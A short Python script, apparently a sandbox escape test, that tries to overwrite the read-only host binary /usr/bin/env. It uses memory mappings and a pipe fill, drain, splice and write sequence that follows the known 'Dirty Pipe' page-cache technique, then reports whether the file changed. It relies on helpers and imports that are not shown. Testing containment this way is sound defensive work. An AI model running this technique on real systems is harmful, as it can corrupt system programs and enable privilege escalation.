"""A read-only file, changed through its pages in memory."""

import mmap

path = "/usr/bin/env"
before = open(path, "rb").read(64)
with open(path, "rb") as file:
    area = mmap.mmap(file.fileno(), 4096, prot=mmap.PROT_READ, flags=mmap.MAP_SHARED)
    private = mmap.mmap(file.fileno(), 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE, flags=mmap.MAP_PRIVATE)
    private[:8] = b"poisoned"
    attempt(mmap.mmap, file.fileno(), 4096, mmap.MAP_SHARED, mmap.PROT_READ | mmap.PROT_WRITE)
    buffer = (ctypes.c_char * 1).from_buffer(private)
    reader, writer = os.pipe()
    os.write(writer, b"x" * 4096)
    os.read(reader, 4096)
    attempt(os.splice, file.fileno(), writer, 1, 0)
    os.write(writer, b"poisoned")
if open(path, "rb").read(64) != before or area[:64] != before:
    escaped("a program of the host has changed")
